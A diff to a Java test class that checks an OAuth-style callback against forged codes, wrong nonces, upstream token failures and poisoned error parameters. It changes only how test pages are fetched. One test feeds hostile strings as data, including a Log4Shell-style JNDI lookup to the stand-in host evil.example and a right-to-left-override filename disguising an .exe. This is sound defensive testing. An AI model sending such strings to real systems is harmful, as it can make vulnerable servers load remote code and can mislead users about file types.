@@ -63,7 +63,7 @@ class ForgedAnswerTest extends FlowCase {
         URI hers = caught(eve);
         Traces before = traces();
 
-        Page answer = eve.browser().get(with(hers, "code", parameter(bobs, "code")), HTML);
+        Page answer = land(eve.browser(), with(hers, "code", parameter(bobs, "code")), HTML);
 
         assertThat(answer.status()).as(answer.text()).isEqualTo(502);
         assertThat(answer.body()).doesNotContain(parameter(bobs, "code"));
@@ -79,7 +79,7 @@ class ForgedAnswerTest extends FlowCase {
         Traces before = traces();
         world().sandbox().knobs().set(Knobs.WRONG_NONCE, true);
 
-        Page answer = alice.browser().get(caught(alice), HTML);
+        Page answer = land(alice.browser(), caught(alice), HTML);
 
         assertThat(answer.status()).isEqualTo(400);
         assertThat(rows("integrations")).isEqualTo(before.integrations());
@@ -114,7 +114,7 @@ class ForgedAnswerTest extends FlowCase {
                 "${jndi:ldap://evil.example/a}",
                 "\u202Egnp.exe",
                 "x".repeat(7000))) {
-            Page answer = alice.browser().get(error(poison, poison), HTML);
+            Page answer = land(alice.browser(), error(poison, poison), HTML);
 
             assertThat(answer.status()).isEqualTo(502);
             assertThat(answer.body())
@@ -168,7 +168,7 @@ class ForgedAnswerTest extends FlowCase {
             Traces before = traces();
             world().sandbox().knobs().set(Knobs.FAIL_NEXT, List.of(Fault.FailNext.of("token", status)));
 
-            Page answer = alice.browser().get(caught(alice), HTML);
+            Page answer = land(alice.browser(), caught(alice), HTML);
 
             assertThat(answer.status()).as("%s: %s", status, answer.text()).isBetween(500, 503);
             assertThat(exchanges()).as("one call, none after it").isEqualTo(before.exchanges() + 1);
